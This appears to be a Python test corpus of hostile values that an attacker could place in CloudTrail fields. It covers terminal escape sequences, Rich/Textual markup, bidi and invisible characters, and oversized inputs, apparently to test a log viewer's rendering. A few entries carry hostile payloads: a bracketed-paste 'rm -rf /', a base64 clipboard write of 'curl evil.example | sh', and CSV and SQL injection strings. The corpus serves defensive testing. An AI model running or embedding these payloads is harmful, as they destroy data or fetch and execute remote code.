"""Values an attacker can put in CloudTrail fields (user agent, request parameters, error messages, resource
names): terminal control sequences, markup, invisible and reordering characters, and sheer size."""

from __future__ import annotations

ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"

CORPUS: list[tuple[str, str]] = [
    # ANSI CSI: colours, screen and cursor control, device queries
    ("csi-clear-screen", f"{ESC}[2J{ESC}[H owned"),
    ("csi-colour", f"{ESC}[31;1mred{ESC}[0m"),
    ("csi-cursor-up", f"line{ESC}[5Aover"),
    ("csi-hide-cursor", f"{ESC}[?25l"),
    ("csi-alt-screen", f"{ESC}[?1049h"),
    ("csi-device-status", f"{ESC}[6n"),
    ("csi-erase-line", f"keep{ESC}[2Kgone"),
    ("csi-scroll-region", f"{ESC}[1;1r"),
    ("csi-mouse-tracking", f"{ESC}[?1000h{ESC}[?1006h"),
    ("csi-bracketed-paste-end", f"{ESC}[201~rm -rf /{ESC}[200~"),
    # OSC: window title, clipboard, hyperlinks, colours, notifications
    ("osc-title-bel", f"{ESC}]0;pwned{BEL}"),
    ("osc-title-st", f"{ESC}]2;pwned{ST}"),
    ("osc52-clipboard-write", f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={BEL}"),
    ("osc8-hyperlink", f"{ESC}]8;;https://evil.example{ESC}\\click me{ESC}]8;;{ESC}\\"),
    ("osc4-palette", f"{ESC}]4;1;rgb:ff/00/00{BEL}"),
    ("osc777-notify", f"{ESC}]777;notify;Update;run this{BEL}"),
    ("osc1337-iterm", f"{ESC}]1337;File=inline=1:AAAA{BEL}"),
    # DCS, APC, PM, SOS and other escape forms
    ("dcs", f"{ESC}Pq#0;2;0;0;0#1;2;100;100;0{ST}"),
    ("apc-kitty", f"{ESC}_Gf=100;AAAA{ST}"),
    ("pm", f"{ESC}^privacy message{ST}"),
    ("esc-reset", f"{ESC}c"),
    ("esc-keypad", f"{ESC}="),
    # C1 controls (8-bit forms)
    ("c1-csi", "\x9b31mred"),
    ("c1-osc", "\x9d0;pwned\x9c"),
    ("c1-nel", "next\x85line"),
    ("c1-dcs", "\x90qdata\x9c"),
    # C0 controls that move the cursor or hide text
    ("bell", f"ring{BEL}ring"),
    ("backspace-overwrite", "admin\b\b\b\b\bguest"),
    ("carriage-return-overwrite", "safe-looking\rEVIL"),
    ("nul", "nul\x00byte"),
    ("del", "del\x7fete"),
    ("form-feed-vtab", "a\x0cb\x0bc"),
    ("newlines-tabs", "line one\nline two\ttabbed"),
    # Rich and Textual markup
    ("rich-markup", "[bold red]ALERT[/bold red]"),
    ("rich-unbalanced-close", "[/]"),
    ("rich-unclosed", "[red unclosed"),
    ("rich-link", "[link=https://evil.example]innocent[/link]"),
    ("textual-click-action", "[@click=app.quit]exit[/]"),
    ("textual-variable", "$accent $text"),
    ("rich-emoji-code", ":skull: :warning:"),
    ("escaped-markup", "\\[not markup]"),
    # Bidirectional, invisible and look-alike characters
    ("bidi-rlo", "invoice\u202egpj.exe"),
    ("bidi-lri-pdi", "\u2066admin\u2069"),
    ("bidi-rle-pdf", "\u202babc\u202c"),
    ("zero-width-space", "adm\u200bin"),
    ("zero-width-joiner", "a\u200db\u200cc"),
    ("bom", "\ufeffstart"),
    ("line-separator", "line\u2028separator\u2029para"),
    ("tag-characters", "tag\U000e0041\U000e0042"),
    ("soft-hyphen", "in\u00advisible"),
    ("combining-flood", "z" + "\u0336" * 200),
    ("homoglyph", "аdmin"),  # Cyrillic а
    ("wide-cjk", "管理者アカウント"),
    ("emoji-zwj", "👩\u200d💻 👨\u200d👩\u200d👧"),
    ("lone-surrogate-escape", "\\ud800"),  # as JSON text it becomes a real lone surrogate
    # Size and shape
    ("one-megabyte", "A" * 1_000_000),
    ("long-line-of-escapes", f"{ESC}[31m" * 10_000),
    ("json-looking", '{"Records": [{"eventID": "fake"}]}'),
    ("trino-looking", "{type=Root, arn=arn:aws:iam::000000000000:root, accountid=000000000000}"),
    ("csv-formula", '=HYPERLINK("https://evil.example","click")'),
    ("csv-formula-plus", "+cmd|' /C calc'!A0"),
    ("sql-looking", "'; DROP TABLE events; --"),
]


def deeply_nested_json(depth: int = 200) -> object:
    value: object = "bottom"
    for _ in range(depth):
        value = {"n": [value]}
    return value
